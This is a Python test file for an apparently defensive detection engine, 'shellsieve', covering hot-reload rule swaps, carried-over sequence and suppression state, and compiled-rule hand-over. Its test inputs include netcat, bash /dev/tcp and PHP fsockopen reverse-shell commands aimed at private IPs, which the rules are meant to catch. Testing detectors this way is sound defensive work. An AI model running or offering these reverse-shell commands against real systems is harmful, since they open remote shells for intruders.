"""Engine.swap (a hot reload's last step) and the hand-over of compiled rules from the compile process.

State of a rule whose id and query did not change carries over the swap (an open sequence completes
across it, a suppression window holds); a changed or removed rule's state is dropped; counters never
go back; `from_entry` turns a compile process's entry into rules without compiling anything.
"""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import msgspec
import pytest

from conftest import PATTERNS, PHP_FSOCKOPEN, REVERSE_SHELL_SEQUENCE, rule_ids
from shellsieve.admit import new_diagnostics, new_errors
from shellsieve.build import BuildError, build, build_entry, from_entry
from shellsieve.compile.ruleset import Ruleset
from shellsieve.model.selection import Selection
from shellsieve.run.engine import Engine
from shellsieve.settings import Settings
from test_seeds import cmdline, exec_of, net

EXTRA = """title: reload marker
id: 0b0d6b1e-3c1f-4d0e-9a55-5e1f0c0d{n:04d}
status: test
level: high
logsource:
  product: linux
  category: process_creation
detection:
  s:
    CommandLine|contains: "{token}"
  condition: s
"""
EXTRA_ID = "0b0d6b1e-3c1f-4d0e-9a55-5e1f0c0d0001"


def _rules(tmp: Path, token: str | None) -> Path:
    """A copy of the shipped rules, plus the marker rule catching `token` if given."""
    d = tmp / "rules"
    if not d.exists():
        shutil.copytree(PATTERNS, d, ignore=shutil.ignore_patterns("__init__.py", "__pycache__"))
    extra = d / "sigma" / "extra.yml"
    if token is None:
        extra.unlink(missing_ok=True)
    else:
        extra.write_text(EXTRA.format(n=1, token=token))
    return d


def _ruleset(tmp: Path, token: str | None) -> Ruleset:
    _, ruleset, diags = build([_rules(tmp, token)], None)
    assert not [d for d in diags if d.severity == "error"], [d.render() for d in diags]
    return ruleset


def _feed(engine: Engine, *events: dict[str, Any]) -> list[dict[str, Any]]:
    stream = engine.stream()
    out = stream.feed(b"".join(msgspec.json.encode(e) + b"\n" for e in events), 0.0)
    return [msgspec.json.decode(x) for x in out.splitlines()]


NC = exec_of(["nc", "10.1.2.3", "4444", "-e", "/bin/sh"])
NETCAT_SHELL = "e0208213-a02f-4e13-ae6a-e609b8c26b36"  # patterns/shellsieve/reverse_shell_netcat_exec.yml


class TestSwap:
    def test_open_sequence_of_an_unchanged_rule_completes_across_the_swap(self, tmp_path: Path) -> None:
        engine = Engine(_ruleset(tmp_path, None), Settings())
        assert rule_ids(_feed(engine, NC)[0]) == [NETCAT_SHELL]  # the payload rule; the sequence: open, no alert yet
        changes = engine.swap(_ruleset(tmp_path, "zz-marker"))
        assert changes["added"] == 1 and changes["changed"] == 0 and changes["sequences_kept"] == 1
        out = _feed(engine, net())
        assert rule_ids(out[0]) == [REVERSE_SHELL_SEQUENCE]
        assert rule_ids(_feed(engine, exec_of(["echo", "zz-marker"]))[0]) == [EXTRA_ID]

    def test_changed_sequence_rule_starts_afresh(self, tmp_path: Path) -> None:
        engine = Engine(_ruleset(tmp_path, None), Settings())
        _feed(engine, NC)
        seq = tmp_path / "rules" / "elastic" / "reverse_shell_via_suspicious_child_process.toml"
        text = seq.read_text()
        assert "maxspan=1s" in text
        seq.write_text(text.replace("maxspan=1s", "maxspan=2s"))
        changes = engine.swap(_ruleset(tmp_path, None))
        assert changes["changed"] == 1 and changes["sequences_kept"] == 0
        assert rule_ids(_feed(engine, net())[0]) == []  # the partial went with the old query
        assert engine.snapshot()["open_sequences"] == 0

    def test_removed_rule_no_longer_alerts_and_counters_do_not_go_back(self, tmp_path: Path) -> None:
        engine = Engine(_ruleset(tmp_path, "zz-marker"), Settings())
        assert rule_ids(_feed(engine, exec_of(["echo", "zz-marker"]))[0]) == [EXTRA_ID]
        before = engine.snapshot()
        changes = engine.swap(_ruleset(tmp_path, None))
        assert changes["removed"] == 1
        assert rule_ids(_feed(engine, exec_of(["echo", "zz-marker"]))[0]) == []
        after = engine.snapshot()
        assert after["events_in"] == before["events_in"] + 1
        assert after["hits_per_rule"] == before["hits_per_rule"]
        for key in ("sequence_evictions", "regex_timeouts", "rescanned_blocks"):
            assert after[key] >= before[key]

    def test_suppression_windows_kept_for_unchanged_rules_only(self, tmp_path: Path) -> None:
        php = cmdline("php -r '$s=fsockopen(\"10.1.1.1\",4444);'", "php")
        engine = Engine(_ruleset(tmp_path, "zz-marker"), Settings(suppress_window_s=300))
        marker = exec_of(["echo", "zz-marker"])
        first = _feed(engine, php, marker)
        assert PHP_FSOCKOPEN in rule_ids(first[0]) and rule_ids(first[1]) == [EXTRA_ID]
        extra = tmp_path / "rules" / "sigma" / "extra.yml"
        extra.write_text(EXTRA.format(n=1, token="zz-marker").replace("level: high", "level: critical")
                         .replace('"zz-marker"', '"zz-mark"'))
        engine.swap(build([tmp_path / "rules"], None)[1])
        again = _feed(engine, php, marker)
        assert PHP_FSOCKOPEN not in rule_ids(again[0])  # unchanged rule: its window still holds
        assert rule_ids(again[1]) == [EXTRA_ID]  # changed query: its window went with it

    def test_long_line_scan_uses_the_new_rules(self, tmp_path: Path) -> None:
        only_marker = tmp_path / "marker"
        only_marker.mkdir()
        (only_marker / "extra.yml").write_text(EXTRA.format(n=1, token="zz-marker"))
        engine = Engine(build([only_marker], None)[1], Settings(max_line_bytes=200))
        shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
        long = msgspec.json.encode({"process": {"name": "bash", "command_line": shell, "parent": {"name": "nginx"}},
                                    "padding": "x" * 400}) + b"\n"
        stream = engine.stream()
        assert stream.feed(long, 0.0) == long  # no rule's anchor in it: forwarded as it came
        engine.swap(_ruleset(tmp_path, None))
        out = msgspec.json.decode(stream.feed(long, 0.0))
        assert out["shellsieve"]["line_too_long"]["candidates"]


class TestHandOver:
    def test_from_entry_compiles_nothing_and_gives_the_same_rules(self, tmp_path: Path) -> None:
        rules_dir = _rules(tmp_path, "zz-marker")
        blob = build_entry([rules_dir], None, Selection())
        rules, ruleset, diags = from_entry(blob)
        assert ruleset.cache_status == "warm"  # the databases came from the entry, not a compile
        direct = build([rules_dir], None)
        assert [cr.rule.id for cr in ruleset.rules] == [cr.rule.id for cr in direct[1].rules]
        assert ruleset.pattern_count == direct[1].pattern_count
        assert [d.render() for d in diags] == [d.render() for d in direct[2]]
        twin = ruleset.single_database
        assert twin is not None and twin.database() is not None and not twin.compiled  # handed over, not compiled

    def test_the_twin_is_prepared_off_the_hot_path(self, tmp_path: Path) -> None:
        twin = build([_rules(tmp_path, "zz-marker")], None)[1].single_database
        assert twin is not None and not twin.built
        twin.prepare().join(60)
        assert twin.built and twin.compiled

    def test_from_entry_refuses_bytes_that_are_not_an_entry(self) -> None:
        with pytest.raises(BuildError, match="could not be read"):
            from_entry(b"\x93not an entry")


class TestNewErrors:
    def test_only_errors_the_running_rules_did_not_have(self, tmp_path: Path) -> None:
        bad = tmp_path / "bad"
        bad.mkdir()
        (bad / "a.yml").write_text("title: [unclosed\n")
        _, _, before = build([bad], None)
        assert len(new_errors(before, [])) == 1
        assert new_errors(before, before) == []  # still broken the same way: not new
        (bad / "b.yml").write_text("detection: {\n")
        _, _, after = build([bad], None)
        assert [d.location.path for d in new_errors(after, before)] == [str(bad / "b.yml")]

    def test_a_new_warning_is_new_but_not_an_error(self, tmp_path: Path) -> None:
        rules = tmp_path / "r"
        rules.mkdir()
        (rules / "a.yml").write_text(EXTRA.format(n=1, token="zz-marker"))
        _, _, before = build([rules], None)
        (rules / "b.yml").write_text(EXTRA.format(n=2, token="-").replace('contains: "-"', "contains: ' '"))
        _, _, after = build([rules], None)
        fresh = new_diagnostics(after, before)
        assert fresh and {d.severity for d in fresh} == {"warning"}  # an anchor on most events (SS304)
        assert new_errors(after, before) == []
